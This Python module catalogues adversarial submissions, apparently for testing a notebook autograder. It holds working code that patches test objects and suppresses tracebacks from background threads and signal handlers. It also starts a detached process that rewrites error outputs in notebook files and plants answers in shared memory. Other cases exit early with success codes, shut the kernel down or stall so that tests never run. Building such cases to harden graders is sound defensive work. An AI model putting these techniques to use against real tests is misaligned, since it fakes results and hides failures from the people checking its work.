"""Attacks that act later than their cell: threads, children, timers, exits; and those that end things early."""

from ..submissions import answer, attack, insert

LATER = "outliving the cell"
EARLY = "ends early"


@attack(LATER)
def thread_that_patches(book):
    """A thread waits for the tests and then replaces what they use, over and over."""
    insert(book, """
        import builtins, threading, time

        def patch():
            shell = get_ipython()
            end = time.monotonic() + 30
            while time.monotonic() < end:
                shell.user_ns["check"] = type("Yes", (), {"__getattr__": lambda self, name: lambda *a, **k: None})()
                shell._showtraceback = lambda *a, **k: None
                time.sleep(0.0005)

        threading.Thread(target=patch, daemon=True).start()
    """)


@attack(LATER)
def thread_with_the_right_answer(book):
    """A thread that puts the answer of whoever asks into the namespace, once a test runs."""
    insert(book, """
        import sys, threading, time

        def watch():
            names = get_ipython().user_ns
            end = time.monotonic() + 30
            while time.monotonic() < end:
                for name in ("mean_square", "square_of_gap"):
                    if callable(names.get(name)):
                        names["loss"] = names[name]
                time.sleep(0.0005)

        threading.Thread(target=watch, daemon=True).start()
    """)


@attack(LATER)
def child_that_writes_to_the_kernel(book):
    """A child process keeps the kernel's descriptors and writes into its streams."""
    insert(book, """
        import os, time
        if os.fork() == 0:
            try:
                os.setsid()
                for _ in range(100):
                    print("2")
                    time.sleep(0.1)
            finally:
                os._exit(0)
    """)


@attack(LATER)
def daemon(book):
    """A process that leaves its session and stays, to change files later."""
    insert(book, """
        import subprocess, sys
        code = '''
        import os, time
        end = time.time() + 30
        while time.time() < end:
            for name in os.listdir("."):
                if name.endswith(".ipynb"):
                    try:
                        text = open(name).read()
                        if '"output_type": "error"' in text:
                            open(name, "w").write(text.replace('"output_type": "error"', '"output_type": "stream"'))
                    except OSError:
                        pass
            time.sleep(0.05)
        '''
        import textwrap
        subprocess.Popen([sys.executable, "-c", textwrap.dedent(code)], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    """)


@attack(LATER)
def at_exit(book):
    """At its end the process rewrites the notebook in its folder."""
    insert(book, """
        import atexit, glob

        def rewrite():
            for path in glob.glob("*.ipynb"):
                open(path, "w").write("{}")

        atexit.register(rewrite)
    """)


@attack(LATER)
def finalisers(book):
    """Finalisers and collector callbacks that patch when objects go."""
    insert(book, """
        import gc, weakref

        class Late:
            def __del__(self):
                get_ipython()._showtraceback = lambda *a, **k: None
                get_ipython().user_ns["loss"] = get_ipython().user_ns.get("mean_square")

        late = [Late() for _ in range(10)]
        gc.callbacks.append(lambda *a: late and late.pop())
    """)


@attack(LATER)
def signal_handlers(book):
    """A timer's signal handler changes the variables of whatever runs."""
    insert(book, """
        import signal

        def handler(number, frame):
            while frame is not None:
                for name in ("reference", "mean_square"):
                    if callable(frame.f_locals.get(name)):
                        get_ipython().user_ns["loss"] = frame.f_locals[name]
                frame = frame.f_back

        signal.signal(signal.SIGALRM, handler)
        signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
    """)


@attack(LATER)
def pending_calls(book):
    """Tasks on the event loop that run between cells."""
    insert(book, """
        import asyncio

        async def patch():
            for _ in range(1000):
                get_ipython()._showtraceback = lambda *a, **k: None
                await asyncio.sleep(0.01)

        task = asyncio.ensure_future(patch())
    """)


@attack(LATER)
def memory_that_stays(book):
    """Leaves answers in shared memory, message queues, semaphores and locks on files that other submissions see, and looks for some."""
    insert(book, """
        import ctypes, fcntl, os
        from multiprocessing import resource_tracker, shared_memory
        libc = ctypes.CDLL(None, use_errno=True)
        for create in (False, True):
            try:
                block = shared_memory.SharedMemory("of-the-corpus", create=create, size=64)
                print("FOUND memory" if not create else "made", bytes(block.buf[:8]))
                block.buf[:6] = b"answer"
            except OSError as error:
                print(error)
        for name, arguments in (("shmget", (0x5eed, 4096, 0o1666)), ("msgget", (0x5eed, 0o1666)), ("semget", (0x5eed, 1, 0o1666)),
                                ("mq_open", (b"/of-the-corpus", 0o102, 0o666, None)), ("memfd_create", (b"of-the-corpus", 0))):
            print(name, getattr(libc, name, lambda *a: None)(*arguments))
        for folder in ("/dev/shm", "/dev/mqueue", "/proc/sysvipc"):
            print(folder, os.listdir(folder) if os.path.isdir(folder) else None)
    """)


@attack(EARLY)
def exit_code_zero(book):
    """Ends its process with success while a test runs."""
    answer(book, "double", "import os\ndef double(number):\n    os._exit(0)")


@attack(EARLY)
def exits_before_the_tests(book):
    """Ends its process before every test, so that none can leave an error."""
    for name in ("double-values", "shift-values", "loss-values", "slope-value"):
        insert(book, "import os\nos._exit(0)", before=name)


@attack(EARLY)
def system_exit_in_tests(book):
    """Raises SystemExit(0), KeyboardInterrupt and StopIteration from answers."""
    answer(book, "double", "def double(number):\n    raise SystemExit(0)")
    answer(book, "shift", "def shift(values):\n    raise KeyboardInterrupt")
    answer(book, "loss", "def loss(inputs, targets, weight):\n    raise StopIteration(inputs.sum())")


@attack(EARLY)
def kernel_shut_down(book):
    """Asks its kernel to shut down, and hangs up."""
    insert(book, """
        kernel = getattr(get_ipython(), "kernel", None)
        if kernel is not None:
            kernel.do_shutdown(False)
        get_ipython().ask_exit()
    """, before="double-values")


@attack(EARLY)
def hangs_up_before_tests(book):
    """Closes its sockets right before the tests."""
    insert(book, """
        import os, stat
        for descriptor in range(3, 300):
            try:
                if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                    os.close(descriptor)
            except OSError:
                pass
    """, before="double-values")


@attack(EARLY)
def uses_up_the_time(book):
    """Uses up the time of the notebook, so that nothing is left for tests."""
    for name in ("double-values", "shift-values", "loss-values", "slope-value"):
        insert(book, "import time\ntime.sleep(100)", before=name)


@attack(EARLY)
def dies_until_nobody_tries(book):
    """Ends its process in ten cells, more often than anyone starts it anew."""
    for _ in range(10):
        insert(book, "import os\nos._exit(0)")
